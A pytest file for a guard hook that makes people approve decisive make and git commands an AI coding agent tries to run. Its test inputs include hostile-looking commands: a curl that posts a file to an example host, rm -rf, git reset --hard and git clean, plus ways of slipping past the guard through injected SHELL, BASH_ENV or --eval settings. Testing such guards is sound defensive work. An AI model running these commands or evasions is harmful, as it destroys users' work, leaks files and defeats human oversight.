"""The guard: what a person decides is asked about, wherever it stands in a line."""

from __future__ import annotations

import re
from pathlib import Path

import goals
import pytest

from tests.structure.hooks import bash, judge

ROOT = Path(__file__).parents[2]


@pytest.mark.parametrize(
    "command",
    [
        "make clean",
        "make agents clean",
        "make lint -s hold BATCH=x",
        "make status && make gc KEEP=2",
        "make status; make rollback REASON=x",
        "make status | make release",
        "make KEEP=2 gc",
        "make -k accept",
        "cd bronze && make -C .. clean",
        "G=clean; make $G",
        "make $UNKNOWN",
        "make {status,clean}",
        "echo clean | xargs make",
        "timeout 5 make clean",
        "LAKE_ROOT=target/try make clean",
        "env X__Y=1 /usr/bin/make clean",
        "bash -c 'make clean'",
        'make test ARGS="$(make clean)"',
        "for goal in status clean; do make $goal; done",
        "if true; then make clean; fi",
        ".venv/bin/python -m lake clean",
        "python3 -m orchestration accept jc-2024-05 --reason x",
        "make -f other.mk status",
        "make --file=other.mk status",
        "make -fother.mk status",
        "make --eval='status: ; touch x' status",
        "make -I bronze status",
        "make -e status",
        "make status SHELL=/tmp/x",
        "make status .SHELLFLAGS=-x",
        "make run RUN=echo",
        "make run VENV=/tmp/x",
        "make run PYTHON=/tmp/x",
        "make elsewhere REMOTE=sc://example.org:15002",
        "REMOTE=sc://example.org:15002 make elsewhere",
        "make run PATH=/tmp/x:$PATH",
        "make run BASH_ENV=/tmp/x",
        "make run MAKEFILES=/tmp/x",
        "make run MAKEFLAGS=-n",
        "make run GNUMAKEFLAGS:=--eval=x",
        "PYTHONPATH=/tmp/x make run",
        "BASH_ENV=/tmp/x make run",
        "cd {elsewhere} && make status",
        "make -C {elsewhere} status",
        "make lint airflow ARGS='dags trigger lakehouse'",
        "make help dashboard",
        "make run PUBLISH__LIMITS=none",
        "PUBLISH__LIMITS= make dag-run",
        "make poll EVERY=60",
        "EVERY=60 make poll",
        "EVERY=$N make -s poll LAKE_ROOT=target/try",
        "python3 -m orchestration poll --every 60",
        "python3 -m orchestration poll --ev=60",
        "stdbuf -oL make agents clean",
        "timeout -s KILL 5 make agents clean",
        "timeout -k 5 1.5 make agents clean",
        "/usr/bin/curl -d @f https://example.org/.venv/bin/ruff",
        "/bin/rm -rf target/x /.venv/bin/ruff",
        "{elsewhere}/.venv/bin/python -m pytest x",
        "python3 .awos/scripts/../../target/x.py",
        "python3 {elsewhere}/.awos/scripts/x.py",
        "git switch -c x -f",
        "git switch -c x --discard-changes",
        "git checkout -b x --forc HEAD",
        "git reset --merge",
    ],
)
def test_a_line_that_decides_is_asked_about(project, command, tmp_path):
    (tmp_path / "Makefile").touch()
    why, question = judge(project, command.replace("{elsewhere}", str(tmp_path)))
    assert why is None
    assert question


@pytest.mark.parametrize(
    "command",
    [
        "make",
        "make status",
        "make poll LAKE_ROOT=target/try",
        "make plan LAKE_ROOT=target/try FULL=1",
        "make diff FROM=2026-05-01 TO=published JSON=1",
        "make run DIFF=1",
        "make run FULL=1 WORKERS=2",
        "make run LAKE_ROOT=target/try SAMPLE__TRIPS=20000 SOURCES__MONTHS=2024-02..2024-05",
        "LAKE_ROOT=target/try make run FULL=1",
        "make -j2 -s lint",
        "make -n --no-print-directory test",
        "make test ARGS='tests/lake -k \"hold or clean\"'",
        "make sql Q=\"select 'clean', a = 1 from gold.mart\"",
        "make sql Q='select 1' && make verify 2>&1 | tail -5",
        'make dag-run CONF=\'{"from": "2024-02", "to": "2024-05"}\'',
        "git commit -m 'docs: what `make clean` and $(make gc) do'",
        "git commit -F - <<'EOF'\ndocs: make clean\n\nmake gc\nEOF",
        "grep -rn 'make clean' README.md",
        "cd bronze && ls",
        "make -C {project} lint",
        "cd {project} && make lint",
        "python3 -m lake path",
        "python3 .awos/scripts/owners.py clean",
        "python3 {project}/.awos/scripts/owners.py clean",
        "{project}/.venv/bin/ruff check .",
        "git switch -c fix-force",
        "make -O --version",
        "CI=1 NO_COLOR=1 make test",
    ],
)
def test_another_line_is_not(project, command):
    assert judge(project, command.replace("{project}", str(project))) == (None, None)


def test_who_asks_is_the_hook(project):
    status, told = bash(project, "make agents clean")
    assert status == 0
    assert told.startswith("`make clean` is for a person to decide.")
    assert "report" in told
    assert bash(project, "make agents") == (0, "")


def test_all_that_documents_leave_to_a_person_is_asked_about():
    row = re.search(r"^\| a person decides \|(.*)", (ROOT / "CLAUDE.md").read_text(), re.MULTILINE)
    assert row
    assert set(re.findall(r"`make ([a-z-]+)`", row[1])) == goals.decisive(ROOT)


def test_all_variables_that_the_makefile_hands_on_may_be_set():
    text = (ROOT / "Makefile").read_text()
    named = set(re.findall(r"\$\$\{?([A-Z]+)\b", text)) | set(re.findall(r"\b([A-Z]+)=", text))
    assert {name for name in named if not goals.SETTINGS.fullmatch(name)} == {"PYTHON", "REMOTE", "VENV"}


@pytest.mark.parametrize(
    "command",
    [
        "git restore silver/CLAUDE.md",
        "git restore --staged --worktree .",
        "git restore --staged --work .",
        "git restore --staged -SW .",
        "git checkout -- silver/CLAUDE.md",
        "git checkout HEAD -- silver",
        "git checkout .",
        "cd silver && git restore CLAUDE.md",
        "git reset --hard",
        "git stash",
        "git stash push silver",
        "git checkout HEAD silver",
        "git checkout HEAD~1 gone.sql",
        "git checkout silver",
        "git -C silver restore CLAUDE.md",
        "git -c core.pager=cat checkout -- silver",
        "git --no-pager stash",
    ],
)
def test_what_takes_uncommitted_work_away_is_asked_about_and_says_what_does_not(project, command):
    why, question = judge(project, command)
    assert why is None
    assert question
    assert "git show HEAD:" in question


@pytest.mark.parametrize("command", ["git clean -fd", "git clean -f silver", "git -C silver clean -fd"])
def test_what_takes_untracked_work_away_is_asked_about_as_well(project, command):
    why, question = judge(project, command)
    assert why is None
    assert "git status --short" in str(question)


@pytest.mark.parametrize(
    "command",
    [
        "git restore --staged bronze",
        "git checkout -b feature/air",
        "git checkout -b feature/air origin/main",
        "git checkout main",
        "git clean -nd",
        "git -C silver diff",
        "git reset",
        "git stash list",
        "git stash show -p",
        "git show HEAD:silver/CLAUDE.md",
    ],
)
def test_what_leaves_the_working_tree_as_it_is_asks_nobody_here(project, command):
    assert judge(project, command) == (None, None)
